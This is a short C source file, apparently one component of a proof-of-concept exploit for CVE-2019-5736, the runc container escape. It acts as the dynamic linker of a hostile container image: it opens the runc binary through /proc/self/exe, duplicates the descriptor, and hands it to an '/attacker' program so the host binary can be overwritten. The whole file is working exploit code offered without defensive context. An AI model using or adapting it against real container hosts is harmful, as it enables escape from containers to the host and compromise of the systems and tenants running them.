/* The dynamic linker of a hostile image (CVE-2019-5736): it runs in the place of the node's python, when that is executed inside.
 *
 * It opens the file it was executed from, and goes on as /attacker, which no longer keeps that file busy. Freestanding: the process
 * has another program's headers, and so no C library can start in it. */

static long call(long number, long a, long b, long c)
{
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
}

void _start(void)
{
    static char *const arguments[] = {"/attacker", "take", "9", "2", 0}, *const environment[] = {0};
    long fd = call(2, (long)"/proc/self/exe", 0, 0); /* open, O_RDONLY */
    call(33, fd, 9, 0);                              /* dup2 */
    call(59, (long)arguments[0], (long)arguments, (long)environment); /* execve */
    call(60, 77, 0, 0);                              /* exit */
}
